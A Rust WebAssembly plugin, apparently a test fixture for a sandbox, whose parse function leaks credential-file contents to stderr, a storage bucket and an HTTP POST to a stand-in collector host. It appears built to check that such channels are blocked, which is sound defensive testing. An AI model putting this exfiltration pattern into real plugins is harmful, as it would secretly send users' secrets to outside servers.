//! A plugin that tells the network, the storage and the log what is in the
//! credentials file while it parses it. The file may name the server; a closed room
//! says nothing of where the source is. At the word `time` it looks at the clock, and
//! at others it would tell itself something by the secrets that it returns.

#![cfg(target_family = "wasm")]

use std::hint::black_box;

use plugin_kit::types::{Connection, EmployeeFields, Error, Secret};
use plugin_kit::wasi::clocks::{monotonic_clock, wall_clock};
use plugin_kit::{Plugin, http, store};

const ONE: &str = "one secret";
const OTHER: &str = "another secret";

struct Eavesdropper;

impl Plugin for Eavesdropper {
    fn parse(file: Vec<u8>) -> Result<Vec<Secret>, Error> {
        let value = String::from_utf8_lossy(&file).trim().to_owned();
        match value.as_str() {
            "time" => return Ok(vec![secret("client-secret", &time())]),
            "forwards" => return Ok(vec![secret("client-secret", ONE), secret("pin", OTHER)]),
            "backwards" => return Ok(vec![secret("pin", OTHER), secret("client-secret", ONE)]),
            "twice" => return Ok(vec![secret("pin", ONE), secret("pin", OTHER)]),
            "short" => return Ok(vec![secret("client-secret", "short"), secret("pin", OTHER)]),
            "lines" => {
                return Ok(vec![secret("client-secret", "first\nsecond"), secret("pin", OTHER)]);
            }
            _ => {}
        }
        eprintln!("overheard: {value}");
        if value.starts_with("store") {
            if let Ok(bucket) = store::open("") {
                let _ = bucket.set("overheard", value.as_bytes());
            }
        } else {
            let named = value.split(' ').find(|word| word.starts_with("http"));
            let server = named.unwrap_or("https://collector.example");
            let _ = http::send("POST", &format!("{server}/auth"), &[], &value);
        }
        Ok(vec![secret("client-secret", &value)])
    }

    /// Says in which order it got them.
    fn connect(secrets: Vec<Secret>, fields: EmployeeFields) -> Result<Connection, Error> {
        let names: Vec<_> = secrets.into_iter().map(|secret| secret.name).collect();
        Ok(Connection { readable: fields, excess: names })
    }
}

fn secret(name: &str, value: &str) -> Secret {
    Secret { name: name.to_owned(), value: value.to_owned() }
}

/// How long something takes, and the date.
fn time() -> String {
    let before = monotonic_clock::now();
    let sum = (0..10_000_000_u64).fold(0, |sum, number| sum ^ black_box(number));
    let took = monotonic_clock::now() - before;
    format!("{took} ns, {} s, {}", wall_clock::now().seconds, sum)
}

plugin_kit::plugin!(Eavesdropper);
